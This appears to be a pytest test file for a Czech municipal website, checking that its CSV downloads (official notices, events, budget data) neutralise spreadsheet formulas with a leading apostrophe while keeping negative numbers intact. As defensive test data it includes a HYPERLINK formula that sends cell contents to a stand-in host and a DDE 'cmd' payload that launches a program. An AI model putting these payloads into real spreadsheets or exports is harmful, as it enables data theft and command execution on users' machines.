"""Every CSV download neutralises cells a spreadsheet program would run as a formula.

OWASP "CSV injection": a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula in Excel or LibreOffice. Text cells get a leading ``'``; numbers stay numbers.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.cache import cache
from django.utils import timezone

from radnice.opendata.responses import csv_response, spreadsheet_cell
from tests.modules.budget.conftest import add_budget_page, csv_bytes, enable_budget, import_bytes
from tests.site.board.factories import OfficialBoardIndexPageFactory, OfficialNoticePageFactory
from tests.site.events.factories import EventIndexPageFactory, EventPageFactory, timed

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://zlo.example/"&A1)'


@pytest.fixture(autouse=True)
def _fresh_cache():
    cache.clear()
    yield
    cache.clear()


def rows_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def get(client, path):
    return client.get(path, HTTP_HOST="alfa.test")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+420 777 123 456", "'+420 777 123 456"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Oprava silnice", "Oprava silnice"),
        ("", ""),
        (Decimal("-1234.50"), Decimal("-1234.50")),
        (-7, -7),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_spreadsheet_cell_prefixes_formula_text_and_keeps_numbers(value, cell):
    assert spreadsheet_cell(value) == cell


def test_csv_response_neutralises_header_and_cells_and_keeps_negative_numbers():
    response = csv_response("x.csv", ["=název", "částka"], [["@zlo", Decimal("-1234.50")]])
    assert rows_of(response) == [["'=název", "částka"], ["'@zlo", "-1234.50"]]


def test_official_board_csv_neutralises_formulas(client, town_a):
    board = OfficialBoardIndexPageFactory(parent=town_a.site.root_page)
    board.save_revision().publish()
    notice = OfficialNoticePageFactory(
        parent=board, title=FORMULA, teaser="+1 den", department="-Odbor", agenda="@agenda"
    )
    notice.save_revision().publish()
    header, row = rows_of(get(client, board.url + "data.csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells["název"] == "'" + FORMULA
    assert cells["popis"] == "'+1 den"
    assert cells["odbor"] == "'-Odbor"
    assert cells["agenda"] == "'@agenda"


def test_events_csv_neutralises_formulas_and_keeps_negative_coordinates(client, town_a):
    index = EventIndexPageFactory(parent=town_a.site.root_page)
    index.save_revision().publish()
    day = timezone.localdate() + datetime.timedelta(days=3)
    event = EventPageFactory(
        parent=index,
        title=FORMULA,
        venue="@Sál",
        organiser="-SDH",
        latitude=Decimal("-33.868800"),
        longitude=Decimal("151.209300"),
        dates=[timed(day, 18)],
    )
    event.save_revision().publish()
    header, row = rows_of(get(client, index.url + "data.csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells[header[0]] == "'" + FORMULA
    assert "'@Sál" in row
    assert "'-SDH" in row
    assert "-33.868800" in row


@pytest.mark.parametrize(
    ("path", "column", "expected"),
    [
        ("/rozpocet/2023/dodavatele/csv/dodavatele/", "nazev", "'=1+2"),
        ("/rozpocet/2023/faktury/3/csv/faktury/", "popis", "'@SUM(A1:A2)"),
        ("/rozpocet/2023/akce/101/csv/faktury/", "popis", "'@SUM(A1:A2)"),
    ],
)
def test_budget_csv_neutralises_formulas_and_keeps_negative_amounts(
    client, town_a, path, column, expected
):
    enable_budget(town_a)
    add_budget_page(town_a)
    lines = [
        "ROZ;0;8115;;;-850000;;;;Změna stavu účtů",
        "KDF;2212;5171;101;;-1234,50;2023-03-15;25448714;=1+2;@SUM(A1:A2)",
    ]
    assert import_bytes(town_a, csv_bytes(*lines)).ok
    header, *rows = rows_of(get(client, path))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert expected in [row[column] for row in cells]
    assert any(value == "-1234.50" for row in cells for value in row.values())


def test_budget_overview_csv_keeps_negative_financing_a_number(client, town_a):
    enable_budget(town_a)
    add_budget_page(town_a)
    assert import_bytes(town_a, csv_bytes("ROZ;0;8115;;;-850000;;;;Změna stavu účtů")).ok
    rows = rows_of(get(client, "/rozpocet/2023/csv/souhrn/"))
    assert any("-850000.00" in row for row in rows)
    assert not any(cell.startswith("'") for row in rows for cell in row)
